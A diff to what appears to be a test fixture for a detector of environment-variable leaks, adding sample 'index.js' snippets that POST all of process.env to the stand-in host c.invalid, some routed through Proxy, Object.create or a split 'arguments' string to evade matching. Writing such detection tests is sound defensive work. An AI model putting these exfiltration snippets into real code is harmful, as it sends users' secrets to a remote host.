@@ -450,9 +450,21 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       'const all = (env, other = env) => other;',
       'const all = env => Object.keys(env).map(name => [name, env[name]]);',
       'const all = env => { const { HOME, ...rest } = env; return rest; };',
+      `const all = function (env) { return env.HOME && all['argu' + 'ments'][0]; };`,
     ].map(all => ({
       when: `all of it goes through a function of its own: ${all}`,
       files: { 'index.js': `${all} fetch('https://c.invalid', { method: 'POST', body: JSON.stringify(all(process.env)) });` },
+      weight: 'proof' as const,
+    })),
+    ...[
+      'Object.assign({}, process.env, { ALL: Object.entries(process.env) })',
+      '(() => { const env = Object.create(process.env); env.ALL = process.env; return env; })()',
+      'new Proxy(process.env, { get: (all, key) => (key === "ALL" ? { ...all } : all[key]) })',
+    ].map(context => ({
+      when: `it has all of it under a name as well: ${context}`,
+      files: {
+        'index.js': `const pick = context => JSON.stringify(context.ALL); const context = ${context}; fetch('https://c.invalid', { method: 'POST', body: pick(context) });`,
+      },
       weight: 'proof' as const,
     })),
   ],
